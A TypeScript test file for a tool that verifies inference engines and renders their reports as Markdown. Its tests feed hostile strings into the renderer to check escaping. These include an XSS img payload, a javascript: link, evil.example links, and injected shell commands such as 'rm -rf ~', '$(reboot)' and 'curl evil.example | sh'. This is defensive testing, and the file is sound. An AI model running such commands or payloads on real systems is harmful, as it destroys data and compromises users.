import { readFileSync } from 'node:fs';
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { expect, test } from 'vitest';
import { figuresEnd, figuresStart, insertFigures } from '../../src/generation/provenance-file.ts';
import { Benchmark } from '../../src/model/benchmark.ts';
import { type Finding, type GateResult, Report } from '../../src/model/report.ts';
import { decideOutcome, toVerdict } from '../../src/model/verdict.ts';
import { makeFinding } from '../../src/verification/gate-context.ts';
import { localise } from '../../src/verification/localise.ts';
import { renderFigures, renderReport } from '../../src/verification/render-report.ts';

function gate(
  name: GateResult['gate'],
  findings: Finding[] = [],
  status: GateResult['status'] = findings.length > 0 ? 'failed' : 'passed',
): GateResult {
  return {
    gate: name,
    status,
    reason: status === 'skipped' ? 'it needs gate build' : null,
    seconds: 0.5,
    findings,
    measurements: { max_abs: 1.25e-7 },
  };
}

function report(gates: GateResult[], goals: Report['goals'] = []): Report {
  return Report.parse({
    schema: 'metainfer/report/v1',
    engine: { name: 'tiny', treeSha256: 'a'.repeat(64), lineCount: 1900 },
    verdict: decideOutcome(gates, goals),
    goals,
    gates,
    inputs: {
      constraintsSha256: 'b'.repeat(64),
      weights: { source: 'tiny-qwen3', sha256: 'c'.repeat(64), method: 'full', bytes: 10 },
      runSeed: 3,
    },
    environment: {
      compiler: 'g++ 12.2.0',
      compilerFlags: ['-O2'],
      cpu: 'cpu',
      cpuFlags: ['avx2'],
      cores: 2,
      memoryBytes: 1,
      kernel: '6',
      node: 'v20',
      protection: { sandbox: 'bubblewrap', reason: 'no network', limits: ['wall time 1 s'] },
    },
    benchmark: null,
    repeat: 'npx metainfer verify engines/x --seed 3',
    startedAt: '2026-01-01T00:00:00.000Z',
    seconds: 9,
  });
}

test('a pass needs every gate green and every goal met', () => {
  const met = {
    metric: 'ttft',
    written: '<= 9 ms',
    status: 'met',
    measured: 5,
    baseline: null,
    note: null,
  } as const;
  expect(decideOutcome([gate('static'), gate('text', [], 'not-applicable')], [met])).toBe('passed');
  expect(decideOutcome([gate('static')], [{ ...met, status: 'missed' }])).toBe('failed');
  expect(decideOutcome([gate('static')], [{ ...met, status: 'not-measured' }])).toBe('failed');
  expect(decideOutcome([gate('static'), gate('build', [], 'skipped')], [])).toBe('failed');
  expect(decideOutcome([], [])).toBe('failed');
  expect(decideOutcome([gate('static')], [{ ...met, measured: null }])).toBe('failed');
  expect(decideOutcome([gate('static', [makeFinding('static', null, 'off')], 'passed')], [])).toBe('failed');
});

test('a verdict is bound to the tree and says why it failed', () => {
  const verdict = toVerdict(
    report([gate('unit', [makeFinding('unit', 'norm.rms', 'wrong')]), gate('trace', [], 'skipped')]),
  );
  expect(verdict.treeSha256).toBe('a'.repeat(64));
  expect(verdict.reasons).toEqual([
    'gate unit failed with 1 finding',
    'gate trace did not run: it needs gate build',
  ]);
});

test('unit findings decide before the trace, and the most upstream contract first', () => {
  const gates = [
    gate('unit', [
      makeFinding('unit', 'attention.block', 'off'),
      makeFinding('unit', 'position.rope', 'off'),
    ]),
    gate('trace', [makeFinding('trace', 'embedding.token', 'first')]),
  ];
  expect(localise({ gates }).map((suspect) => suspect.contract)).toEqual([
    'position.rope',
    'attention.block',
    'embedding.token',
  ]);
  expect(localise({ gates: gates.slice(1) })[0]?.contract).toBe('embedding.token');
  expect(localise({ gates: [gate('static')] })).toEqual([]);
});

test('the page shows gates, findings and how to repeat, and what an engine wrote is no markup', () => {
  const finding = makeFinding(
    'build',
    'norm.rms',
    '<img src=x> [link](http://x)\n# title',
    {},
    { file: 'norm_rms.cpp', line: 12 },
  );
  const page = renderReport(report([gate('static'), gate('build', [finding])]));
  expect(page).toContain('# tiny: failed');
  expect(page).toContain('`norm_rms.cpp:12`');
  expect(page).toContain('First suspect: norm.rms.');
  expect(page).toMatch(/max\\?_abs 1.25e-7/);
  expect(page).toContain('- repeat: `npx metainfer verify engines/x --seed 3`');
  expect(page).not.toMatch(/(?<!\\)<img|(?<!\\)\[link|^# title/m);
});

const hostile = [
  'x',
  '# Heading',
  '<img src=x onerror=alert(1)> <b>@octocat</b> closes #1, GH-2, [link](javascript:alert(1)) ![i](//evil.example/i)',
  '| `code` | https://evil.example www.evil.example <https://evil.example>',
  figuresEnd,
].join('\n\n');

/** Words that the schema fixes; every other string of a report is the runner's to choose. */
const fixed =
  /^(?:metainfer\/report\/v1|passed|met|sampled|bubblewrap|static|build|ledger|unit|trace|logits|edges|equivalence|text|determinism|bench|physics|[0-9a-f]{64}|interleaved ABBA|spread below 1 %|decode|prefill|bandwidth|flops|(?:decode|prefill)_tokens_per_second)$/;

function poison(value: unknown): unknown {
  if (typeof value === 'string') return fixed.test(value) ? value : hostile;
  if (Array.isArray(value)) return value.map(poison);
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, poison(inner)]));
}

/** A report of a real run in which every text, and every figure of a gate, is hostile. */
function poisonedReport(change: Partial<Report> = {}): Report {
  const path = new URL('../fixtures/reports/qwen3-0-6b.json', import.meta.url);
  const poisoned = Report.parse({ ...(poison(JSON.parse(readFileSync(path, 'utf8'))) as Report), ...change });
  const benchmark = Benchmark.parse(poisoned.benchmark);
  const gates = poisoned.gates.map((one) => ({
    ...one,
    measurements: {
      ...Object.fromEntries(Object.keys(one.measurements).map((name) => [name, hostile])),
      [hostile]: hostile,
    },
  }));
  gates[0]!.reason = hostile;
  gates[1]!.findings = [
    makeFinding('build', hostile, hostile, { [hostile]: hostile }, { file: hostile, line: 3 }),
  ];
  return { ...poisoned, gates, benchmark: { ...benchmark, warnings: [hostile] } };
}

function toHtml(markdown: string): string {
  const options = { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] };
  return micromark(markdown, options);
}

/** Tags but those of our own tables, lists and headings; what GitHub would act on outside of code. */
function actedOn(html: string): string[] {
  const prose = html.replace(/<code>[^<]*<\/code>/g, '');
  const ours = /<\/?(?:h1|h2|p|ul|li|table|thead|tbody|tr|t[hd]|strong|blockquote)>|<t[hd] align="\w+">/g;
  return prose.replace(ours, '').match(/<[a-z/!].*|@octocat|#1\b|GH-2|https?:|www\.|javascript:\S*"/gi) ?? [];
}

test('nothing that a runner wrote is markup, a mention or a reference in the page', () => {
  expect(actedOn(toHtml(hostile)).join()).toMatch(/<img.*<a/s);
  expect(actedOn(toHtml('@octocat closes #1, GH-2'))).toEqual(['@octocat', '#1', 'GH-2']);
  const html = toHtml(renderReport(poisonedReport()));
  expect(actedOn(html)).toEqual([]);
  expect(html.match(/<h[12]>.*?</g)!.map((heading) => heading.slice(4, -1))).toEqual([
    expect.stringMatching(/^x # Heading/),
    ...['Findings', 'Goals', 'Benchmark', 'How'],
  ]);
  expect(html).not.toContain('Repeat');
  const absent = { ...Benchmark.parse(poisonedReport().benchmark), baseline: null, comparison: [] };
  const alone = poisonedReport();
  expect(
    actedOn(toHtml(renderReport({ ...alone, benchmark: { ...absent, baseline_absent_because: hostile } }))),
  ).toEqual([]);
});

test('the figures of a README are numbers, and text of a runner stays in its line', () => {
  const figures = renderFigures(poisonedReport());
  expect(actedOn(toHtml(figures))).toEqual([]);
  expect(figures.split('\n').slice(0, -1)).toEqual([
    expect.stringMatching(/^Verdict: \*\*passed\*\*; gates passed: static, [a-z, ]+\.$/),
    'Largest logit error –, mean KLD –.',
    'Decode – tokens/s (–x the baseline), prefill – tokens/s.',
  ]);
  expect(figures).not.toContain('Repeat');
  const readme = `# engine\n${figuresStart}\n${figuresEnd}\nend`;
  for (const text of [figures, hostile])
    expect(insertFigures(readme, text).split(figuresEnd)).toEqual([
      expect.stringContaining('Heading'),
      '\nend',
    ]);
});

test.each([
  ['npx metainfer verify engines/tiny-qwen3 --seed 3', true],
  ['npx metainfer verify ../a_b/c.d+e --seed 3', true],
  ['npx metainfer verify . --seed 3', true],
  ['npx metainfer verify engines/tiny-qwen3 --seed 4', false],
  ['npx metainfer verify engines/tiny-qwen3 --seed 3 && rm -rf ~', false],
  ['npx metainfer verify $(reboot) --seed 3', false],
  ['npx metainfer verify --output --seed 3', false],
  ['npx metainfer verify a b --seed 3', false],
  ['npx metainfer verify x --seed 3\n\n# title', false],
  ['curl evil.example | sh', false],
])('the command to repeat it is shown where it is one: %s', (repeat, isShown) => {
  const shown = { ...report([gate('static')]), repeat };
  expect(renderFigures(shown).includes('Repeat')).toBe(isShown);
  expect(renderReport(shown).includes('- repeat:')).toBe(isShown);
  expect(renderFigures(shown).includes(`\`${repeat}\``)).toBe(isShown);
});
